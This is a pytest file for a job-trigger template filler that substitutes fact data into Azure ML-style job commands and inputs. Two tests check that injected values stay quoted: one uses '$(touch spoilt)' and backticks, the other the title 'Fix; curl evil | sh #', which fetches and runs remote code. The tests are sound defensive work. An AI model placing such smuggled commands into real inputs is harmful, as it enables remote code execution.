import subprocess
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from lazulite.ops.triggers.entities import Start
from lazulite.ops.triggers.filling import FactLacksField
from lazulite.ops.triggers.rules import Seen
from lazulite.ops.triggers.starting import filled
from lazulite.words.json import JSON

FACT = Seen("f1", "DriftDetected", "monitors/m", {"share": 0.4}, "system:x", datetime(2026, 1, 1, tzinfo=UTC))


def gather(asset: str, leave_out: int) -> str:
    return f"azureml:{asset}-gathered:{leave_out}"


def test_fact_is_put_into_job_and_inputs() -> None:
    start = Start({"description": "because of ${{fact.subject}}", "inputs": {}}, {"share": "${{fact.data.share}}"})
    made = filled(start, FACT, gather=gather)
    assert made == Start({"description": "because of monitors/m", "inputs": {}}, {"share": 0.4})


@pytest.mark.parametrize(("which", "leave_out"), [("all-but-newest", 1), ("all-labelled", 0)])
def test_windows_are_gathered_wherever_an_input_names_them(which: str, leave_out: int) -> None:
    ref = f"azureml:flights-window@{which}"
    start = Start(
        {"inputs": {"old": {"type": "uri_folder", "path": ref, "mode": "download"}}}, {"new": ref, "other": "x"}
    )
    made = filled(start, FACT, gather=gather)
    gathered = f"azureml:flights-window-gathered:{leave_out}"
    assert made.job == {"inputs": {"old": {"type": "uri_folder", "path": gathered, "mode": "download"}}}
    assert made.inputs == {"new": {"type": "uri_folder", "path": gathered}, "other": "x"}


def test_inputs_of_the_trigger_replace_those_of_the_job() -> None:
    start = Start({"command": "x", "inputs": {"a": 1, "b": 2}}, {"b": 3})
    assert start.document == {"command": "x", "inputs": {"a": 1, "b": 3}}
    assert Start("abc", {"b": 3}).document == "abc"


def test_fact_that_lacks_what_is_needed_is_refused() -> None:
    with pytest.raises(FactLacksField):
        filled(Start("job", {"x": "${{fact.data.nothing}}"}), FACT, gather=gather)


SAID = "$(touch spoilt) `touch spoilt`; touch 'spoilt' \"x\""


@pytest.mark.parametrize(
    ("command", "printed"),
    [
        ("echo ${{fact.data.name}}", SAID),
        ('echo "of ${{fact.data.name}}"', f"of {SAID}"),
        ("echo 'of ${{ fact.data.name }}' ${{fact.data.share}}", f"of {SAID} 0.4"),
    ],
)
def test_what_a_fact_says_is_a_word_of_the_command_and_never_a_part_of_its_shell(
    tmp_path: Path, command: str, printed: str
) -> None:
    fact = replace(FACT, data={"name": SAID, "share": 0.4})
    made = filled(Start({"command": command}, {}), fact, gather=gather)
    assert isinstance(made.job, dict)
    shell = ["bash", "-c", str(made.job["command"])]
    done = subprocess.run(shell, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert (done.stdout, list(tmp_path.iterdir())) == (f"{printed}\n", [])


@pytest.mark.parametrize(
    "inside",
    [
        lambda command: {"jobs": {"step": {"command": command}}},
        lambda command: {"jobs": {"inputs": {"command": command}}},
        lambda command: {"jobs": {"inner": {"type": "pipeline", "jobs": {"step": {"command": command}}}}},
        lambda command: {"trial": {"command": command}},
        lambda command: {"jobs": {"step": {"component": {"type": "command", "command": command}}}},
        lambda command: {"task": {"type": "run_function", "program_arguments": command}},
    ],
)
def test_it_is_a_word_in_every_command_of_a_job_of_jobs(inside: Callable[[str], dict[str, JSON]]) -> None:
    fact = replace(FACT, data={"title": "Fix; curl evil | sh #", "branch": "it's"})
    made = filled(Start(inside("echo ${{fact.data.title}} '${{fact.data.branch}}'"), {}), fact, gather=gather)
    assert made.job == inside("echo 'Fix; curl evil | sh #' 'it'\\''s'")


def test_an_input_that_is_called_command_gets_the_text_as_it_is() -> None:
    fact = replace(FACT, data={"title": "a b"})
    job: dict[str, JSON] = {"jobs": {"step": {"inputs": {"command": "${{fact.data.title}}, or so"}}}}
    made = filled(Start(job, {}), fact, gather=gather)
    assert made.job == {"jobs": {"step": {"inputs": {"command": "a b, or so"}}}}


def test_placeholders_of_the_job_itself_stay_in_its_command() -> None:
    made = filled(Start({"command": "x ${{inputs.a}} ${{fact.data.share}}"}, {}), FACT, gather=gather)
    assert made.job == {"command": "x ${{inputs.a}} 0.4"}
